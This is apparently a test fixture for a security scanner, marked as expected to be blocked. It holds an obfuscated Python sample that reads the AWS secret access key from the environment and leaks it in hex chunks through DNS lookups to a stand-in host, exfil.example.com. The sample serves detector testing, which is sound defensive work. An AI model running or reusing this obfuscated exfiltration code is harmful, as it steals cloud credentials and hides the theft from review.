# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/dns_tunnel.py technique: encode+getattr
binascii = __import__(''.join(map(chr, [98, 105, 110, 97, 115, 99, 105, 105])))
os = __import__('so'[::-1])
socket = __import__(__import__('codecs').decode('fbpxrg', 'rot13'))
secret = os.environ.get(getattr(bytes, ''.join(['f', 'r', 'o', 'm', 'h', 'e', 'x']))('4157535f5345435245545f4143434553535f4b4559').decode(), '')
encoded = getattr(binascii, bytes.fromhex('6865786c696679').decode())(getattr(secret, __import__('base64').b64decode('ZW5jb2Rl').decode())()).decode()
for i in range(0, len(encoded), 60):
    try:
        getattr(socket, ''.join(map(chr, [103, 101, 116, 104, 111, 115, 116, 98, 121, 110, 97, 109, 101])))(f'{encoded[i:i + 60]}.x.exfil.example.com')
    except OSError:
        pass
